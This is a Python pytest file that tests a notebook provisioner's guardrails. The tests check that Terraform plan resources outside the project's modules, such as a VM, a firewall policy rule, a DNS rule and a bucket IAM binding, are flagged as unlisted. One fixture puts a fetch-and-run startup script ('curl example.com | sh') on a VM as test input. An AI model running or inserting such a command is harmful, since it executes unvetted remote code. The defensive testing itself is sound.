"""A plan makes what the modules make: a type that they do not make is named, whatever else is known of it."""

from datetime import date
from pathlib import Path

import pytest
from plan_documents import LOOKED_UP, change, document
from plan_mistakes import RIGHT

from notebook_provisioner.catalog import resources
from notebook_provisioner.core import fleet, guardrails
from notebook_provisioner.core.terraform_plan import read

QUICKSTART = Path(__file__).parents[2] / "examples" / "quickstart" / "fleet.yaml"


def codes(*entries):
    ours = fleet.parse(QUICKSTART.read_text(encoding="utf-8"), file="fleet.yaml", today=date(2026, 11, 1))
    return [finding.code for finding in guardrails.check(read(document(*entries, **LOOKED_UP)), ours)]


OTHERS = {
    "a VM whose disk is a notebook's": (
        "google_compute_instance",
        {
            "metadata_startup_script": "curl example.com | sh",
            "network_interface": [{"network": "default"}],
            "attached_disk": [{"source": "ana-data-workspace"}],
        },
    ),
    "a rule that goes before every network's": (
        "google_compute_firewall_policy_rule",
        {
            "direction": "INGRESS",
            "action": "allow",
            "match": [{"src_ip_ranges": ["10.0.0.0/8"], "layer4_configs": [{"ip_protocol": "all"}]}],
        },
    ),
    "a name that answers as it should": (
        "google_dns_response_policy_rule",
        {"dns_name": "docs.example.com.", "local_data": []},
    ),
    "a binding of the modules' own roles": (
        "google_storage_bucket_iam_binding",
        {"bucket": "b", "role": "roles/storage.objectViewer", "members": []},
    ),
}


@pytest.mark.parametrize("one", OTHERS)
def test_a_type_that_some_rule_knows(one):
    kind, after = OTHERS[one]
    assert "unlisted-resource" in codes(change(kind, ["create"], after=after))
    assert "unlisted-resource" in codes(change(kind, ["update"], before=after, after=after))
    assert codes(change(kind, ["delete"], before=after)) == []


def test_a_type_that_is_named_for_something_else_too():
    key = change("google_service_account_key", ["create"], after={"service_account_id": "a"})
    assert codes(key) == ["service-account-key", "unlisted-resource"]


def test_what_the_modules_make_is_not_named():
    assert RIGHT.keys() <= resources.TYPES
    for kind in resources.TYPES:
        assert "unlisted-resource" not in codes(change(kind, ["create"], after=RIGHT.get(kind, {})))
